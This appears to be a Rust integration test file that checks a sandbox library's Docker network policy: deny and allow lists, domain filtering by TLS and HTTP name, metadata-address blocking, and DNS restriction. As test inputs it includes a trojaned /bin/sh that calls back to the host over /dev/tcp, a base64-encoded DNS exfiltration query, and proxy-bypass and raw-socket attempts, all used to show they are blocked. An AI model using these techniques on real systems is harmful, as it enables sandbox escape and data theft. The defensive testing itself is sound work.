//! Network policy on Docker, performed: each test sends traffic from a sandbox to targets it
//! made itself and shows what arrives.
//!
//! The targets:
//! - **"The internet"**: a network namespace of the test's own, joined to the host by a veth
//!   pair, with two addresses (`.2`, named `allowed.test`, and `.3`, `denied.test`) and one
//!   link-local address routed to it. A server there answers on ports 80, 443 and 8080 with
//!   the address and port it was reached at. Sandboxes reach it the way they reach the
//!   internet: routed by the host, masqueraded.
//! - **The host**: a listener of the test on all of the host's addresses, reached through the
//!   sandbox's gateway.
//!
//! Making the namespace needs root on the engine's host (CI runs as root); elsewhere the
//! tests fail, saying so.

use std::net::Ipv4Addr;
use std::process::{Command, Stdio};
use std::time::Duration;

use sandkit_core::{
    CommandSpec, ErrorKind, FileStoreExt, NetworkPolicy, Runtime, Sandbox, SandboxExt, ALL_TRAFFIC,
};
use sandkit_docker::DockerRuntime;

mod internet;
use internet::{gateway, host_service, probe, reached, setup, PROBE};

#[tokio::test]
async fn by_default_the_host_and_link_local_addresses_are_refused_and_the_rest_is_open() {
    let (rt, net) = setup("default").await;
    let port = host_service().await;
    for (policy, open) in [
        (None, false),
        (
            Some(NetworkPolicy::new().allow_host(true).allow_link_local(true)),
            true,
        ),
    ] {
        let mut spec = net.spec("default");
        if let Some(p) = policy.clone() {
            spec = spec.network_policy(p);
        }
        let sb = rt.create(spec).await.unwrap();
        let gateway = gateway(&*sb).await;
        let to_host = probe(&*sb, "tcp", &gateway, port, "").await;
        assert_eq!(
            to_host == "reached the host",
            open,
            "{policy:?}: the host at {gateway}:{port}: {to_host}"
        );
        let to_ll = probe(&*sb, "tcp", net.link_local, 8080, "").await;
        assert_eq!(
            reached(&to_ll, net.link_local, 8080),
            open,
            "{policy:?}: link-local: {to_ll}"
        );
        // The rest of the world stays open either way.
        let out = probe(&*sb, "tcp", net.a, 8080, "").await;
        assert!(reached(&out, net.a, 8080), "{policy:?}: {out}");
        sb.kill().await.unwrap();
    }
}

#[tokio::test]
async fn a_denied_cidr_is_unreachable_on_every_port_and_by_raw_socket() {
    let (rt, net) = setup("deny-cidr").await;
    let sb = rt
        .create(
            net.spec("deny-cidr")
                .network_policy(NetworkPolicy::new().deny_out([format!("{}/32", net.b)])),
        )
        .await
        .unwrap();
    for port in [80, 443, 8080] {
        let out = probe(&*sb, "tcp", net.b, port, "").await;
        assert!(out.starts_with("blocked"), "{}:{port}: {out}", net.b);
        let out = probe(&*sb, "tcp", net.a, port, "").await;
        assert!(reached(&out, net.a, port), "{}:{port}: {out}", net.a);
    }
    // curl ignoring any proxy setting, as root: still refused.
    let curl = sb
        .exec(
            CommandSpec::shell(format!(
                "curl --noproxy '*' -sS -m 3 http://{}:8080/ 2>&1; echo \" exit=$?\"",
                net.b
            ))
            .user("root"),
        )
        .await
        .unwrap();
    assert!(!curl.stdout_text().contains("reached"), "{curl:?}");
    // No raw socket to go around the rules with.
    let raw = sb
        .exec(
            CommandSpec::program(
                "python3",
                [
                    "-c",
                    "import socket\ntry:\n socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP); print('raw')\nexcept PermissionError: print('refused')",
                ],
            )
            .user("root"),
        )
        .await
        .unwrap();
    assert_eq!(raw.stdout_text(), "refused\n");
    sb.kill().await.unwrap();
}

#[tokio::test]
async fn an_allow_list_overrides_deny_all() {
    let (rt, net) = setup("allow-list").await;
    let sb = rt
        .create(
            net.spec("allow-list").network_policy(
                NetworkPolicy::new()
                    .deny_out([ALL_TRAFFIC])
                    .allow_out([net.a.to_string()]),
            ),
        )
        .await
        .unwrap();
    let out = probe(&*sb, "tcp", net.a, 8080, "").await;
    assert!(reached(&out, net.a, 8080), "{out}");
    let out = probe(&*sb, "tcp", net.b, 8080, "").await;
    assert!(out.starts_with("blocked"), "{out}");
    sb.kill().await.unwrap();
}

#[tokio::test]
async fn deny_all_but_one_domain_judges_tls_and_http_by_name() {
    let (rt, net) = setup("domain").await;
    let sb = rt
        .create(
            net.spec("domain").network_policy(
                NetworkPolicy::new()
                    .deny_out([ALL_TRAFFIC])
                    .allow_out(["allowed.test"]),
            ),
        )
        .await
        .unwrap();
    // By name, over TLS and HTTP.
    let out = probe(&*sb, "tls", net.a, 443, "allowed.test").await;
    assert!(reached(&out, net.a, 443), "TLS allowed.test: {out}");
    let out = probe(&*sb, "http", net.a, 80, "allowed.test").await;
    assert!(reached(&out, net.a, 80), "HTTP allowed.test: {out}");
    let out = probe(&*sb, "tls", net.b, 443, "denied.test").await;
    assert!(out.starts_with("blocked"), "TLS denied.test: {out}");
    let out = probe(&*sb, "http", net.b, 80, "denied.test").await;
    assert!(out.starts_with("blocked"), "HTTP denied.test: {out}");
    // curl, ignoring proxy settings, by name.
    let curl = sb
        .exec_shell("curl --noproxy '*' --http0.9 -sS -m 5 http://allowed.test/ 2>&1; true")
        .await
        .unwrap();
    assert!(
        curl.stdout_text()
            .contains(&format!("reached {}:80", net.a)),
        "{curl:?}"
    );
    let curl = sb
        .exec_shell("curl --noproxy '*' --http0.9 -sS -m 5 http://denied.test/ 2>&1; true")
        .await
        .unwrap();
    assert!(!curl.stdout_text().contains("reached"), "{curl:?}");
    // Naming the allowed domain to another address reaches the domain's own address only.
    let out = probe(&*sb, "tls", net.b, 443, "allowed.test").await;
    assert!(
        reached(&out, net.a, 443),
        "SNI allowed.test sent to {}: {out}",
        net.b
    );
    // No name, other ports: judged by address, and all traffic is denied.
    let out = probe(&*sb, "tcp", net.a, 443, "").await;
    assert!(out.starts_with("blocked"), "no name: {out}");
    let out = probe(&*sb, "tcp", net.a, 8080, "").await;
    assert!(out.starts_with("blocked"), "port 8080: {out}");
    sb.kill().await.unwrap();
}

#[tokio::test]
async fn a_live_change_applies_to_open_and_new_connections() {
    let (rt, net) = setup("live").await;
    let sb = rt.create(net.spec("live")).await.unwrap();
    sb.files().write_str("/tmp/probe.py", PROBE).await.unwrap();
    let result = async {
        // One connection held open across the change, direct; one through the proxy.
        let mut direct = sb
            .spawn(CommandSpec::program(
                "python3",
                ["/tmp/probe.py", "hold", &net.a.to_string(), "8080"],
            ))
            .await?;
        let out = probe(&*sb, "tcp", net.b, 8080, "").await;
        assert!(reached(&out, net.b, 8080), "before: {out}");
        tokio::time::sleep(Duration::from_millis(500)).await;
        sb.set_network_policy(
            NetworkPolicy::new()
                .deny_out([ALL_TRAFFIC])
                .allow_out(["allowed.test"]),
        )
        .await?;
        sb.files().write_str("/tmp/go", "").await?;
        let mut text = String::new();
        tokio::time::timeout(Duration::from_secs(20), async {
            while let Some(event) = direct.next_event().await {
                if let sandkit_core::ProcessEvent::Stdout(b) = event? {
                    text.push_str(&String::from_utf8_lossy(&b));
                }
            }
            Ok::<_, sandkit_core::Error>(())
        })
        .await
        .expect("the held connection ends")?;
        let lines: Vec<&str> = text.lines().map(str::trim).collect();
        assert!(
            lines.first().is_some_and(|l| reached(l, net.a, 8080)),
            "before the change: {lines:?}"
        );
        assert!(
            lines.get(1).is_some_and(|l| l.starts_with("blocked")),
            "the open connection after the change: {lines:?}"
        );
        let out = probe(&*sb, "tcp", net.b, 8080, "").await;
        assert!(out.starts_with("blocked"), "a new connection after: {out}");
        let out = probe(&*sb, "http", net.a, 80, "allowed.test").await;
        assert!(reached(&out, net.a, 80), "the allowed domain after: {out}");
        // Back to open.
        sb.set_network_policy(NetworkPolicy::new()).await?;
        let out = probe(&*sb, "tcp", net.b, 8080, "").await;
        assert!(reached(&out, net.b, 8080), "after opening again: {out}");
        Ok::<_, sandkit_core::Error>(())
    }
    .await;
    sb.kill().await.unwrap();
    result.unwrap();
}

#[tokio::test]
async fn policies_that_cannot_be_held_are_refused_not_dropped() {
    let (rt, net) = setup("refused").await;
    // A bad entry.
    let e = rt
        .create(
            net.spec("refused")
                .network_policy(NetworkPolicy::new().deny_out(["example.com"])),
        )
        .await
        .unwrap_err();
    assert_eq!(e.kind(), ErrorKind::InvalidInput, "{e}");
    // A policy on the host's network.
    let e = rt
        .create(
            net.spec("refused")
                .network(sandkit_core::NetworkMode::Host)
                .network_policy(NetworkPolicy::new().deny_out([ALL_TRAFFIC])),
        )
        .await
        .unwrap_err();
    assert_eq!(e.kind(), ErrorKind::InvalidInput, "{e}");
    // No guard: a policy is refused, not ignored.
    let unguarded = DockerRuntime::builder()
        .network_guard(false)
        .build()
        .await
        .unwrap();
    assert!(!unguarded.capabilities().network_policy);
    let e = unguarded
        .create(
            net.spec("refused")
                .network_policy(NetworkPolicy::new().deny_out([ALL_TRAFFIC])),
        )
        .await
        .unwrap_err();
    assert_eq!(e.kind(), ErrorKind::Unsupported, "{e}");
    assert!(e.to_string().contains("network_guard"), "{e}");
}

#[tokio::test]
async fn gvisor_sandboxes_are_held_the_same() {
    let (rt, net) = setup("gvisor").await;
    let info = rt.docker().info().await.unwrap();
    assert!(
        info.runtimes.unwrap_or_default().contains_key("runsc"),
        "this test needs gVisor: the engine has no `runsc` runtime (`cargo xtask docker --gvisor`)"
    );
    let gvisor = DockerRuntime::builder()
        .oci_runtime("runsc")
        .build()
        .await
        .unwrap();
    let sb = gvisor
        .create(
            net.spec("gvisor").network_policy(
                NetworkPolicy::new()
                    .deny_out([ALL_TRAFFIC])
                    .allow_out([net.a.to_string(), "allowed.test".to_string()]),
            ),
        )
        .await
        .unwrap();
    let result = async {
        let out = probe(&*sb, "tcp", net.a, 8080, "").await;
        assert!(reached(&out, net.a, 8080), "{out}");
        let out = probe(&*sb, "tcp", net.b, 8080, "").await;
        assert!(out.starts_with("blocked"), "{out}");
        let out = probe(&*sb, "tls", net.b, 443, "allowed.test").await;
        assert!(reached(&out, net.a, 443), "{out}");
        let out = probe(&*sb, "tcp", net.link_local, 8080, "").await;
        assert!(out.starts_with("blocked"), "link-local: {out}");
    }
    .await;
    sb.kill().await.unwrap();
    result
}

/// Sandboxes registered at the same moment by separate processes (each its own channel to
/// the guard) are all held: no registration drops another's.
#[tokio::test]
async fn sandboxes_made_at_once_are_all_held() {
    let (_rt, net) = setup("at-once").await;
    let port = host_service().await;
    let made = futures_util::future::join_all((0..6).map(|_| {
        let spec = net.spec("at-once");
        async move {
            let rt = DockerRuntime::builder().build().await.unwrap();
            rt.create(spec).await.unwrap()
        }
    }))
    .await;
    for sb in &made {
        let gateway = gateway(&**sb).await;
        let out = probe(&**sb, "tcp", &gateway, port, "").await;
        assert!(out.starts_with("blocked"), "{}: {out}", sb.id());
    }
    for sb in made {
        sb.kill().await.unwrap();
    }
}

/// The egress issue's holes 2 and 4. With every name allowed (`*`), an HTTP `Host` that is an
/// address (`[::ffff:a.b.c.d]` above all) used to be taken as an already resolved name: it is
/// judged by where the connection was sent now, so it reaches neither a link-local address,
/// nor another sandbox, nor the host. A cloud metadata address beyond link-local
/// (100.100.100.200, routed into the test's namespace) is refused by default and opened only
/// by naming it.
#[tokio::test]
async fn addresses_posing_as_names_and_metadata_services_are_refused() {
    let (rt, net) = setup("literal").await;
    let metadata = Ipv4Addr::new(100, 100, 100, 200);
    net.route_into(metadata);
    // A listener on the host's port 80 (where the proxy would have joined the literal).
    let host = std::net::TcpListener::bind("0.0.0.0:80")
        .expect("the test needs the host's port 80 free (it runs as root in CI)");
    host.set_nonblocking(true).unwrap();
    let host = tokio::net::TcpListener::from_std(host).unwrap();
    tokio::spawn(async move {
        use tokio::io::AsyncWriteExt;
        while let Ok((mut s, _)) = host.accept().await {
            let _ = s.write_all(b"reached the host\n").await;
        }
    });
    // Another sandbox with a web server on port 80.
    let other = rt.create(net.spec("literal")).await.unwrap();
    let _server = other
        .spawn(CommandSpec::shell(
            "python3 -c \"import socketserver as s\nclass H(s.StreamRequestHandler):\n def handle(self): self.wfile.write(b'reached the other sandbox')\ns.TCPServer(('0.0.0.0', 80), H).serve_forever()\"",
        ))
        .await
        .unwrap();
    let other_ip = other
        .exec_shell("hostname -i")
        .await
        .unwrap()
        .stdout_text()
        .trim()
        .to_string();
    let sb = rt
        .create(
            net.spec("literal").network_policy(
                NetworkPolicy::new()
                    .deny_out([ALL_TRAFFIC])
                    .allow_out(["*"]),
            ),
        )
        .await
        .unwrap();
    let gw = gateway(&*sb).await;
    // The server in the namespace is up, and a name reaches it.
    let out = probe(&*sb, "http", net.a, 80, "allowed.test").await;
    assert!(reached(&out, net.a, 80), "by name: {out}");
    for literal in [
        format!("[::ffff:{}]", net.link_local),
        net.link_local.to_string(),
        format!("[::ffff:{other_ip}]"),
        other_ip.clone(),
        format!("[::ffff:{gw}]"),
        format!("[::ffff:{metadata}]"),
    ] {
        for mode in ["http", "tls"] {
            let out = probe(&*sb, mode, net.a, 80, &literal).await;
            assert!(out.starts_with("blocked"), "{mode} naming {literal}: {out}");
        }
    }

    // Through the proxy, a range that covers them opens neither link-local nor a metadata
    // service (`0.0.0.0/0` beside a domain used to reach 169.254.x.y on port 80).
    let wide = rt
        .create(
            net.spec("literal").network_policy(
                NetworkPolicy::new()
                    .deny_out([ALL_TRAFFIC])
                    .allow_out(["0.0.0.0/0", "allowed.test"]),
            ),
        )
        .await
        .unwrap();
    for (target, port) in [(net.link_local, 80), (metadata, 80), (net.link_local, 443)] {
        let out = probe(&*wide, "tcp", target, port, "").await;
        assert!(
            out.starts_with("blocked"),
            "{target}:{port} through 0.0.0.0/0: {out}"
        );
    }
    let out = probe(&*wide, "tcp", net.a, 80, "").await;
    assert!(reached(&out, net.a, 80), "the range itself: {out}");
    wide.kill().await.unwrap();

    // Metadata by address: refused by default, opened by naming it.
    let plain = rt.create(net.spec("literal")).await.unwrap();
    let out = probe(&*plain, "tcp", metadata, 8080, "").await;
    assert!(out.starts_with("blocked"), "metadata by default: {out}");
    let out = probe(&*plain, "tcp", net.a, 8080, "").await;
    assert!(reached(&out, net.a, 8080), "the rest is open: {out}");
    plain
        .set_network_policy(NetworkPolicy::new().allow_out(["100.100.100.200"]))
        .await
        .unwrap();
    let out = probe(&*plain, "tcp", metadata, 8080, "").await;
    assert!(reached(&out, metadata, 8080), "metadata named: {out}");
    for s in [sb, plain, other] {
        s.kill().await.unwrap();
    }
}

/// The egress issue's hole 1: a template whose `/bin/sh` knocks on a port of the host as soon as
/// it runs. Sandboxes made from it with a deny-all policy, five at once on the isolated network
/// and five on Docker's default bridge, never reach the host: nothing of the image runs before
/// the guard holds a sandbox (the agent itself is the container's main process). Then a policy
/// allowing the host and one command (which runs that `/bin/sh`) do reach it: the knock works.
#[tokio::test]
async fn no_packet_leaves_before_the_rules_exist() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let (rt, net) = setup("window").await;
    let knocks = std::sync::Arc::new(AtomicUsize::new(0));
    let listener = tokio::net::TcpListener::bind("0.0.0.0:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let counted = knocks.clone();
    tokio::spawn(async move {
        while let Ok((_, peer)) = listener.accept().await {
            eprintln!("knock from {peer}");
            counted.fetch_add(1, Ordering::SeqCst);
        }
    });
    let base = rt
        .create(
            net.spec("window")
                .network(sandkit_core::NetworkMode::Bridge),
        )
        .await
        .unwrap();
    let bridge_gw = gateway(&*base).await;
    let isolated = rt.create(net.spec("window")).await.unwrap();
    let isolated_gw = gateway(&*isolated).await;
    isolated.kill().await.unwrap();
    let script = format!(
        "#!/bin/dash\nfor gw in {bridge_gw} {isolated_gw}; do (bash -c \"echo knock >/dev/tcp/$gw/{port}\" 2>/dev/null &); done\nexec /bin/dash \"$@\"\n"
    );
    base.files()
        .write_str("/tmp/knock-sh", &script)
        .await
        .unwrap();
    let out = base
        .exec(CommandSpec::program(
            "/bin/dash",
            [
                "-c",
                "chmod 755 /tmp/knock-sh && mv -f /tmp/knock-sh /bin/sh && echo ok",
            ],
        ))
        .await
        .unwrap();
    assert_eq!(out.stdout_text(), "ok\n", "{out:?}");
    let snapshot = base.snapshot(None).await.unwrap();
    base.kill().await.unwrap();
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(knocks.load(Ordering::SeqCst), 0, "the base's own knocks");

    let deny_all = || NetworkPolicy::new().deny_out([ALL_TRAFFIC]);
    let specs = (0..10).map(|i| {
        let spec = net
            .spec("window")
            .template(snapshot.id.clone())
            .network_policy(deny_all());
        if i % 2 == 0 {
            spec.network(sandkit_core::NetworkMode::Bridge)
        } else {
            spec
        }
    });
    let made: Vec<_> = futures_util::future::join_all(specs.map(|s| rt.create(s))).await;
    let made: Vec<Box<dyn Sandbox>> = made.into_iter().map(|m| m.unwrap()).collect();
    tokio::time::sleep(Duration::from_secs(3)).await;
    let before = knocks.load(Ordering::SeqCst);

    // The knock itself works once allowed: a command runs the template's /bin/sh.
    let first = &made[1];
    first
        .set_network_policy(NetworkPolicy::new().allow_host(true))
        .await
        .unwrap();
    first
        .exec(CommandSpec::program("/bin/sh", ["-c", "sleep 1"]))
        .await
        .unwrap();
    let begun = std::time::Instant::now();
    while knocks.load(Ordering::SeqCst) == 0 && begun.elapsed() < Duration::from_secs(10) {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let after = knocks.load(Ordering::SeqCst);
    for s in made {
        s.kill().await.unwrap();
    }
    rt.delete_snapshot(&snapshot.id).await.unwrap();
    assert_eq!(
        before, 0,
        "{before} knocks reached the host before the sandboxes were held"
    );
    assert!(after > 0, "the knock never works: the test proves nothing");
}

/// A resolver in the test's namespace, on each address given after the first two arguments
/// (a socket each, so that it answers from the address it was asked on): answers every A query
/// with `answer`, and writes each name it is asked about to `log`.
const RESOLVER: &str = r#"
import select, socket, sys
log, answer = open(sys.argv[1], 'a', buffering=1), bytes(int(x) for x in sys.argv[2].split('.'))
socks = []
for addr in sys.argv[3:]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, 53))
    socks.append(s)
print('ready', flush=True)
while True:
    for s in select.select(socks, [], [])[0]:
        q, peer = s.recvfrom(512)
        i, labels = 12, []
        while q[i]:
            labels.append(q[i + 1:i + 1 + q[i]].decode())
            i += 1 + q[i]
        log.write('.'.join(labels) + '\n')
        r = q[:2] + b'\x81\x80' + q[4:6] + b'\x00\x01\x00\x00\x00\x00' + q[12:i + 5]
        s.sendto(r + b'\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04' + answer, peer)
"#;

/// What a sandbox runs to ask `name` of the resolver at `ip`: prints the answer's code and
/// count, or `blocked`.
const ASK: &str = r#"
import socket, struct, sys, random
ip, name = sys.argv[1], sys.argv[2]
q = struct.pack('!HHHHHH', random.randrange(65536), 0x0100, 1, 0, 0, 0)
q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\x00\x00\x01\x00\x01'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.sendto(q, (ip, 53))
try:
    r, _ = s.recvfrom(512)
    print('rcode=%d answers=%d' % (r[3] & 15, struct.unpack('!H', r[6:8])[0]))
except Exception as e:
    print('blocked:', type(e).__name__)
"#;

async fn ask(sb: &dyn Sandbox, ip: Ipv4Addr, name: &str) -> String {
    sb.files().write_str("/tmp/ask.py", ASK).await.unwrap();
    let out = sb
        .exec(CommandSpec::program(
            "python3",
            ["/tmp/ask.py".to_string(), ip.to_string(), name.to_string()],
        ))
        .await
        .unwrap();
    out.stdout_text().trim().to_string()
}

/// The egress issue's hole 5: with a policy naming domains, DNS to a resolver of the sandbox's
/// choosing carried data out (port 53 was open everywhere). Now a query for a name the policy
/// does not allow is refused by the guard and reaches no resolver, and no query reaches the
/// sandbox's chosen resolver at all; with `dns_servers`, only those servers answer, and only on
/// port 53.
#[tokio::test]
async fn dns_goes_only_where_the_policy_says() {
    let (rt, net) = setup("dns").await;
    let log = std::env::temp_dir().join(format!("{}-dns.log", net.ns));
    std::fs::write(&log, "").unwrap();
    let mut resolver = Command::new("ip")
        .args(["netns", "exec", &net.ns, "python3", "-c", RESOLVER])
        .arg(&log)
        .arg(net.a.to_string())
        .args([net.a.to_string(), net.b.to_string()])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    use std::io::BufRead;
    std::io::BufReader::new(resolver.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line, "ready\n");
    let asked = || std::fs::read_to_string(&log).unwrap();

    let policy = || {
        NetworkPolicy::new()
            .deny_out([ALL_TRAFFIC])
            .allow_out(["allowed.test"])
    };
    let sb = rt
        .create(net.spec("dns").network_policy(policy()))
        .await
        .unwrap();
    let out = ask(&*sb, net.b, "c2VjcmV0.exfil.test").await;
    assert_eq!(out, "rcode=5 answers=0", "a name the policy does not allow");
    // An allowed name goes to the guard's host resolvers, not to the one the sandbox chose.
    let _ = ask(&*sb, net.b, "allowed.test").await;
    assert_eq!(asked(), "", "the sandbox's chosen resolver was asked");

    // With dns_servers, those answer (on port 53 only), and no other resolver does.
    sb.set_network_policy(policy().dns_servers([net.b.to_string()]))
        .await
        .unwrap();
    let out = ask(&*sb, net.b, "through-b.test").await;
    assert_eq!(out, "rcode=0 answers=1", "the policy's resolver");
    let out = ask(&*sb, net.a, "through-a.test").await;
    assert!(out.starts_with("blocked"), "another resolver: {out}");
    let out = probe(&*sb, "tcp", net.b, 8080, "").await;
    assert!(
        out.starts_with("blocked"),
        "the resolver's other ports: {out}"
    );
    let log_now = asked();
    sb.kill().await.unwrap();
    let _ = resolver.kill();
    let _ = resolver.wait();
    let _ = std::fs::remove_file(&log);
    assert_eq!(log_now, "through-b.test\n");
}
